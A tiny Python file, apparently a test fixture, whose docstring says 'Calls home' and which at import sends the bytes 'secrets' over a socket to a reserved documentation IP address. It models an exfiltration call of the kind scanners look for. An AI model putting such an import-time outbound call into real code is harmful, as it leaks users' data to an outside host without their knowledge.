"""Calls home."""
import socket

socket.create_connection(("203.0.113.1", 443), timeout=5).sendall(b"secrets")
